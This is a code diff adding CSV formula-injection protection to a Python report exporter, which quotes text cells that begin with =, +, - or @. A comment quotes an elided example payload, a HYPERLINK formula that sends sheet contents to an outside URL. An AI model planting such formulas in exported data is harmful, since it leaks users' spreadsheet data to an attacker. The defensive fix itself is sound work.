@@ -4,17 +4,32 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 
 from .table import Table
+
+
+# A spreadsheet runs a cell that starts with = + - @ (or a tab / CR before one) as a formula: a user
+# named `=HYPERLINK("http://…?"&A1,"…")` (FLEET_USER, `user =`, a teammate's row in a shared state)
+# made the manager's `fleet report --format csv` a link that sends the sheet away. Such text cells get
+# a leading ' (OWASP's advice), which spreadsheets show as text; numbers, even negative, stay numbers.
+_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
+
+
+def csv_cell(value):
+    """`value` safe for a spreadsheet to open (see above); anything but such text unchanged."""
+    if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r") and not _NUMBER.fullmatch(value):
+        return "'" + value
+    return value
 
 
 def to_csv(table: Table) -> str:
     data = table.data()
     buf = io.StringIO()
     writer = csv.writer(buf, lineterminator="\n")
-    writer.writerow(data.fields)
+    writer.writerow([csv_cell(f) for f in data.fields])
     for row in [*data.rows, *([data.total] if data.total is not None else [])]:
-        writer.writerow(["" if row.get(f) is None else row.get(f) for f in data.fields])
+        writer.writerow(["" if row.get(f) is None else csv_cell(row.get(f)) for f in data.fields])
     return buf.getvalue()
 
 
